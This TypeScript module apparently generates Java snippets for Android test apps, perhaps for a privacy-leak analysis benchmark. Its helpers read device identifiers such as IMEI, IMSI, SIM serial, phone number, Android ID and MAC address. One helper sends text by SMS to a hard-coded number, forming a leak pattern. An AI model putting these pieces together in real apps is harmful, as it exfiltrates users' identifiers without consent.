/** Pieces of code that nearly every recipe carries; each stands where a `Context` is `this` unless it takes one. */
const phone = (context: string, call: string): string => `((TelephonyManager) ${context}getSystemService("phone")).${call}()`;

export const imei = phone('', 'getDeviceId');
export const imsi = phone('', 'getSubscriberId');
export const iccid = phone('', 'getSimSerialNumber');
export const line1 = phone('', 'getLine1Number');
export const androidId = 'Settings$Secure.getString(getContentResolver(), "android_id")';
export const mac = '((WifiManager) getSystemService("wifi")).getConnectionInfo().getMacAddress()';
export const imeiOf = (context: string): string => phone(`${context}.`, 'getDeviceId');
export const imsiOf = (context: string): string => phone(`${context}.`, 'getSubscriberId');
export const iccidOf = (context: string): string => phone(`${context}.`, 'getSimSerialNumber');
export const line1Of = (context: string): string => phone(`${context}.`, 'getLine1Number');

export const create = 'protected void onCreate(Bundle b) { super.onCreate(b);';
export const sms = (text: string): string => `SmsManager.getDefault().sendTextMessage("+86106500", null, ${text}, null, null);`;

/** An activity that does all in `onCreate`. */
export const main = (body: string, members = ''): string => `class MainActivity extends Activity { ${members}
  ${create}
    ${body}
  }
}`;

/** A layout of one file, and the ids it gives. */
export const layout = (name: string, xml: string, ...ids: readonly string[]) => ({
  resources: {
    layout: { [name]: { file: `res/layout/${name}.xml` } },
    ...(ids.length > 0 ? { id: Object.fromEntries(ids.map((id) => [id, false])) } : {}),
  },
  files: { [`res/layout/${name}.xml`]: xml },
});
